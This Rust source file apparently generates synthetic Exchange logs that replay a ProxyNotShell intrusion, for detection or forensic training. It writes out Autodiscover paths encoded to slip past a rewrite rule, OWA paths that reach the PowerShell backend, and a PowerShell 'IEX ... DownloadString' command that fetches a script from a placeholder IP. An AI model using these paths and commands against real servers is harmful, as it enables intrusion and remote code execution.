//! `PowerShell` on the back end by way of Autodiscover (CVE-2022-41040) or of Outlook on the web (CVE-2022-41080), and what
//! an object that is sent there makes it start (CVE-2022-41082).

use super::INTRUDER;
use super::led::{self, Led};
use crate::calendar::SECOND;
use crate::logs::events::{self, Process};
use crate::logs::http_proxy::Protocol;
use crate::server::Server;
use afterpatch_model::Timestamp;

const AGENT: &str = "python-requests/2.28.1";
const USER: &str = r"EXAMPLE\c.osei";
const W3WP: &str = r"C:\Windows\System32\inetsrv\w3wp.exe";

/// Plays requests by way of Autodiscover that the rewrite rule refuses.
pub(crate) fn refused(server: &mut Server, start: Timestamp) {
    let queries =
        ["@example.org/PowerShell/", "@example.org/%70owershell/", "@example.org/%2570owershell/?x=1"];
    for (step, query) in (0_i64..).zip(queries) {
        let led = Led {
            protocol: Protocol::Autodiscover,
            method: "POST",
            stem: "/autodiscover/autodiscover.json",
            query,
            user: USER,
            client: INTRUDER,
            agent: AGENT,
            status: 403,
        };
        led::log(server, start.plus(step * 5 * SECOND), &led);
    }
}

/// Plays the way by Outlook on the web, which that rule does not see, and the program that follows.
pub(crate) fn through_owa(server: &mut Server, start: Timestamp) {
    for (step, stem) in
        (0_i64..).zip(["/owa/c.osei@example.org/powershell", "/owa/c.osei%40example.org/PowerShell"])
    {
        let led = Led {
            protocol: Protocol::Owa,
            method: "POST",
            stem,
            query: "",
            user: USER,
            client: INTRUDER,
            agent: AGENT,
            status: 200,
        };
        led::log(server, start.plus(step * 3 * SECOND), &led);
    }
    let commands = [
        r"cmd.exe /c whoami",
        "powershell.exe -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.45/inert.ps1')\"",
    ];
    for (step, command_line) in (0_i64..).zip(commands) {
        start_program(server, start.plus((8 + 20 * step) * SECOND), command_line);
    }
}

fn start_program(server: &mut Server, time: Timestamp, command_line: &str) {
    let program =
        if command_line.starts_with("cmd") { "cmd.exe" } else { r"WindowsPowerShell\v1.0\powershell.exe" };
    let process = Process {
        image: &format!(r"C:\Windows\System32\{program}"),
        command_line,
        parent_image: W3WP,
        parent_command_line: "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"MSExchangePowerShellAppPool\" -v \"v4.0\"",
        user: r"NT AUTHORITY\SYSTEM",
    };
    events::log_process(server, time, &process);
}
